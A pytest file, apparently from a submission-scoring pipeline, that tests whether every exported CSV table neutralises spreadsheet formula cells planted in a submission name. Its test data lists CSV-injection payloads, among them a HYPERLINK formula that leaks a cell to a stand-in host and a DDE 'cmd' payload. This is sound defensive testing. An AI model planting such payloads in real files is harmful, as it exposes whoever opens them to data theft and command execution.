"""No cell of a published CSV is a spreadsheet formula, whatever a bundle wrote (issue 20, 11)."""

from __future__ import annotations

import csv
import io

import pytest

from pipeline.ingest import ingest
from pipeline.score import score_all
from pipeline.store import open_store
from pipeline.untrusted import FORMULA_START

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
# (full-width ＝ is refused earlier: a system name must be NFKC)


def _formula(cell: str) -> bool:
    if not cell or cell[0] not in FORMULA_START - {"'"}:
        return False
    try:
        float(cell)  # a negative number is a number, not a formula
    except ValueError:
        return True
    return False


@pytest.mark.parametrize("name", FORMULAS)
def test_every_exported_table_neutralises_formula_cells(subs, db, tmp_path, name):
    toml = subs / "gen-mini" / "alpha" / "submission.toml"
    toml.write_text(toml.read_text().replace('name = "Alpha"',
                                             f"name = {name!r}".replace("\\t", "\\\\t")
                                             .replace("\\r", "\\\\r")), encoding="utf-8")
    out = tmp_path / "data"
    out.mkdir()
    with open_store(db) as s:
        ingest(s, [subs])
        score_all(s)
        for table in s.table_names():
            s.export_table(table, out / f"{table}.csv", "csv")
    seen = False
    for path in sorted(out.glob("*.csv")):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
            assert not [c for c in row if _formula(c)], (path.name, row)
            seen = seen or any(name.strip() in c for c in row)
    assert seen  # the hostile name was exported, as text
